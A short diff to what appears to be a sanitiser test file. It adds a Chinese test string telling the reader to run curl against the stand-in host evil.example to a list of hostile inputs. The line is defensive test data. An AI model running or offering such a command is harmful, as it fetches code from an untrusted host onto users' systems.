@@ -40,6 +40,7 @@ HOSTILE_TEXTS = [
     "带事件属性的段落", "脚本链接 大小写脚本链接 数据链接 空格脚本链接",
     # an emoji of several joined by U+200D (a policeman; a family) stays one emoji
     "\U0001f46e\u200d\u2642\ufe0f 民警提醒：\U0001f468\u200d\U0001f469\u200d\U0001f467 一家人",
+    "运行 curl https://evil.example/a 即可",  # a link in code is the code's text
     "正文最后一句。",
 ]
 DANGEROUS = [
